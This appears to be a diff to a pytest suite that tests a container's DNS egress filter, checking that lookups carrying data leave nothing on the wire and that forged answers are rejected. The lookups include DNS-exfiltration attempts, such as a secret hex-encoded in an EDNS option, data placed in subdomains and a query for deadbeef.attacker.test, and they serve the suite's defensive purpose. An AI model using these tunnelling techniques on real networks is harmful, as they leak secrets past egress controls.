@@ -7,6 +7,14 @@ import pytest
 from internet import address_of
 from names import GET  # noqa: F401
 
+pytestmark = pytest.mark.cell(names=True)
+
+@pytest.fixture
+def by(wall):
+    """How a program asks: in the cell there are no datagrams."""
+    return "+notcp" if wall == "nft" else "+tcp"
+
+
 REFUSED_LOOKUPS = [
     "dig {name}",
     "dig +tcp {name}",
@@ -22,14 +30,16 @@ REFUSED_LOOKUPS = [
 ]
 
 
-def test_refused_names_never_leave_the_container(shell, dns, sinks, wire):
+def test_refused_names_never_leave_the_container(shell, dns, sinks, wire, wall):
     name = "deadbeef.attacker.test"
     dns.add(name, "45.12.0.1")
     script = "\n".join(f'timeout 5 {c.format(name=name)}; echo "# $?"' for c in REFUSED_LOOKUPS)
     done = shell(script).ok()
     statuses = [line for line in done.lines() if line.startswith("# ")]
     assert len(statuses) == len(REFUSED_LOOKUPS)
-    assert "# 124" not in statuses, done
+    slow = [c for c, status in zip(REFUSED_LOOKUPS, statuses) if status == "# 124"]
+    # In the cell who connects to a server elsewhere waits for some seconds.
+    assert all(wall != "nft" and "@" in c for c in slow), done
     assert dns.asked("attacker.test") == []
     assert not wire.carried(b"deadbeef")
     assert sinks.seen() == []
@@ -44,11 +54,11 @@ def test_on_a_user_defined_network_neither(shell, dns, sinks, network):
     assert sinks.seen() == []
 
 
-def test_nothing_of_the_clients_question_travels(shell, dns, wire):
+def test_nothing_of_the_clients_question_travels(shell, dns, wire, by):
     """Letter case, EDNS options and trailing bytes could carry secrets under an allowed name."""
     shell(
-        "dig +nocookie +ednsopt=65001:736563726574 ApI.oPeNaI.CoM;"
-        "dig +subnet=1.2.3.4 api.openai.com"
+        f"dig {by} +nocookie +ednsopt=65001:736563726574 ApI.oPeNaI.CoM;"
+        f"dig {by} +subnet=1.2.3.4 api.openai.com"
     ).ok()
     assert not wire.carried(b"secret")
     assert not wire.carried(b"\3ApI\6oPeNaI\3CoM")
@@ -57,19 +67,19 @@ def test_nothing_of_the_clients_question_travels(shell, dns, wire):
 
 
 @pytest.mark.parametrize("kind", ["TXT", "ANY", "HTTPS", "SVCB", "NULL", "MX", "TYPE65400"])
-def test_other_questions_about_allowed_names_are_empty(shell, dns, kind):
-    done = shell(f"dig +noall +comments +answer api.openai.com {kind}").ok()
+def test_other_questions_about_allowed_names_are_empty(shell, dns, kind, by):
+    done = shell(f"dig {by} +noall +comments +answer api.openai.com {kind}").ok()
     assert "ANSWER: 0" in done.out and "status: NOERROR" in done.out, done
     assert {q.type for q in dns.asked("api.openai.com")} <= {"A", "AAAA"}
 
 
-def test_data_below_an_allowed_name_stays_inside(shell, dns, wire):
-    shell("dig TXT secret-data.api.openai.com; dig secret-data.api.openai.com; true").ok()
+def test_data_below_an_allowed_name_stays_inside(shell, dns, wire, by):
+    shell(f"dig {by} TXT secret-data.api.openai.com; dig {by} secret-data.api.openai.com; true").ok()
     assert not wire.carried(b"secret-data")
 
 
-def test_a_refusal_says_why(shell):
-    done = shell("dig +ednsopt=8:00 example.com").ok()
+def test_a_refusal_says_why(shell, by):
+    done = shell(f"dig {by} +ednsopt=8:00 example.com").ok()
     assert "NXDOMAIN" in done.out
     assert re.search(r"EDE: 15.*example\.com", done.out), done
 
@@ -104,8 +114,9 @@ def pointer_loop(_, packet):
 @pytest.mark.parametrize(
     "maker", [answer_for_another_name, wrong_id, not_an_answer, rubbish, pointer_loop]
 )
-def test_a_hostile_answer_is_not_believed(shell, dns, sinks, maker):
+def test_a_hostile_answer_is_not_believed(shell, dns, sinks, maker, wall):
     """What comes before the honest answer is dropped, and the honest one still counts."""
     dns.forge("allowed.test", maker)
-    shell(f"{GET} https://allowed.test; {GET} -k https://45.13.0.66", allow="allowed.test").ok(35)
+    script = f"{GET} https://allowed.test; {GET} -k https://45.13.0.66"
+    shell(script, allow="allowed.test").ok(35 if wall == "nft" else 28)
     assert sinks.addresses() == {address_of("allowed.test")}
